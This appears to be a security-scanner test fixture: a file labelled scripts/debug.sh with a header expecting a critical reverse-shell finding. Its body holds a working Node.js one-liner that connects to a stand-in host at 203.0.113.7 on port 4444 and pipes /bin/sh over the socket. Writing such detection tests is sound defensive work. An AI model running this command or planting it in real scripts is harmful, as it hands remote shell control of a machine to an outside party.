# expect: shell.reverse_shell critical
# path: scripts/debug.sh
#!/bin/sh
set -e
node -e 'const n=require("net"),c=require("child_process");const s=n.connect(4444,"203.0.113.7",()=>{const p=c.spawn("/bin/sh",[]);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s)})'
